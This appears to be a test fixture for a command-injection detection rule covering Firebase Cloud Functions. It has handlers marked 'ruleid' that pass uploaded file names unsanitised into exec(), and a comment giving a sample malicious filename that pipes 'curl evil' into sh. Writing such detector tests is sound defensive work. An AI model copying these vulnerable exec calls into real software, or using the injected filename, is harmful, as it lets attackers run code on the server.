import { onObjectFinalized } from "firebase-functions/v2/storage";
import { onMessagePublished } from "firebase-functions/v2/pubsub";
import * as functions from "firebase-functions";
import { exec } from "child_process";
import path from "path";

// The uploaded object's name is the uploader's choice: `a.pdf"; curl evil | sh; ".pdf`.
export const extract = onObjectFinalized(async (event) => {
  const local = path.join("/tmp", path.basename(event.data.name));
  // ruleid: js/command-injection
  exec(`pdftotext "${local}" /tmp/out.txt`);
});

// The bucket is the project's own.
export const sync = onObjectFinalized({ bucket: "reports" }, async (event) => {
  // ok: js/command-injection
  exec(`gsutil ls gs://${event.data.bucket}`);
});

// v1: `storage.object().onFinalize((object) => …)`.
export const thumbnail = functions.storage.object().onFinalize(async (object) => {
  // ruleid: js/command-injection
  exec(`convert ${object.name} -resize 200 /tmp/thumb.jpg`);
});

// A Pub/Sub message is published by the project's services, not by a client.
export const archive = onMessagePublished("archive", async (event) => {
  // ok: js/command-injection
  exec(`tar czf /tmp/archive.tgz /data/${event.data.message.json.day}`);
});
